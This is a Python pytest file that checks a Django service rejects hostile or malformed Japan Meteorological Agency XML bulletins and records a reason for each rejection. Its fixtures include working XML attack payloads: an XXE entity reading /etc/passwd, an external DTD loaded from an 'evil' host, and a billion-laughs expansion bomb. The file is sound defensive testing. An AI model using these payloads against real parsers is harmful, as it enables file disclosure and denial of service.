"""Hostile and broken documents are rejected with a stored reason and change nothing else."""

import pytest
from django.test import override_settings

from kurashi.modules.disaster.jma.parsers import parse_bulletin
from kurashi.modules.disaster.jma.xmlsafe import RejectedDocumentError
from kurashi.modules.disaster.models import Alert, AreaWarning, Bulletin
from kurashi.modules.disaster.models.jma import RejectedBulletin
from kurashi.modules.disaster.services.jma import ingest_document
from kurashi.modules.disaster.tests.jma.builders import fixture

VXKO = fixture("official_16_02_02_220728_VXKOii.xml")

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Report [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"><Control><Title>&xxe;</Title></Control></Report>"""
XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE Report SYSTEM "http://203.0.113.7/evil.dtd">
<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"/>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"><Control><Title>&lol9;</Title></Control></Report>"""
HUGE = VXKO.replace(b"<Body", b"<Body><!-- " + b"x" * (20 * 1024 * 1024) + b" -->", 1)
TRUNCATED = VXKO[: len(VXKO) // 2]
NOT_XML = b"%PDF-1.7\n1 0 obj << /Type /Catalog >>"
JSON = b'{"Report": {"Control": {"Title": "\xe6\x8c\x87\xe5\xae\x9a"}}}'
UNKNOWN_TYPE = VXKO.replace("指定河川洪水予報".encode(), "府県天気予報".encode(), 1)
OTHER_ROOT = b'<?xml version="1.0"?><html><body>hello</body></html>'
MISSING_HEAD = b'<Report xmlns="http://xml.kishou.go.jp/jmaxml1/"><Control><Title>\xe6\x8c\x87\xe5\xae\x9a\xe6\xb2\xb3\xe5\xb7\x9d\xe6\xb4\xaa\xe6\xb0\xb4\xe4\xba\x88\xe5\xa0\xb1</Title></Control></Report>'
BAD_DATE = VXKO.replace(
    b"<ReportDateTime>2021-08-13T15:10:00+09:00", b"<ReportDateTime>yesterday", 1
)


@pytest.mark.parametrize(
    ("_case", "data", "reason"),
    [
        ("xxe_file", XXE, "doctype"),
        ("xxe_network_dtd", XXE_NETWORK, "doctype"),
        ("billion_laughs", BILLION_LAUGHS, "doctype"),
        ("20_mb", HUGE, "too_large"),
        ("truncated", TRUNCATED, "malformed"),
        ("not_xml", NOT_XML, "not_xml"),
        ("json", JSON, "not_xml"),
        ("empty", b"  \n", "empty"),
        ("unknown_type", UNKNOWN_TYPE, "unknown_type"),
        ("other_root", OTHER_ROOT, "unknown_root"),
        ("missing_head", MISSING_HEAD, "invalid"),
        ("bad_date", BAD_DATE, "invalid"),
    ],
)
def test_hostile_input_is_rejected_with_a_reason_and_nothing_else_changes(
    db: None, _case: str, data: bytes, reason: str
) -> None:
    ingest_document(data=VXKO, source="cli", source_name="before.xml")
    counts = (Bulletin.objects.count(), AreaWarning.objects.count(), Alert.objects.count())

    result = ingest_document(data=data, source="upload", source_name=f"{_case}.xml")

    assert result.status == "rejected"
    assert result.rejection is not None
    assert result.rejection.reason == reason
    stored = RejectedBulletin.objects.get()
    assert (stored.reason, stored.source, stored.source_name) == (reason, "upload", f"{_case}.xml")
    assert stored.size_bytes == len(data)
    assert len(stored.head) <= 1000
    assert (Bulletin.objects.count(), AreaWarning.objects.count(), Alert.objects.count()) == counts


def test_entities_are_never_expanded_even_when_parsing_directly() -> None:
    with pytest.raises(RejectedDocumentError) as raised:
        parse_bulletin(XXE)

    assert "passwd" not in raised.value.message
    assert raised.value.reason == "doctype"


@override_settings(JMA_MAX_DOCUMENT_BYTES=1000)
def test_the_size_limit_is_configurable(db: None) -> None:
    result = ingest_document(data=VXKO, source="cli")

    assert result.status == "rejected"
    assert result.rejection is not None
    assert result.rejection.reason == "too_large"
    assert "1,000" in result.rejection.message


def test_a_rejection_is_logged_with_its_reason(db: None, caplog: pytest.LogCaptureFixture) -> None:
    ingest_document(data=TRUNCATED, source="feed", source_name="https://example.test/x.xml")

    assert "JMA document rejected (malformed)" in caplog.text
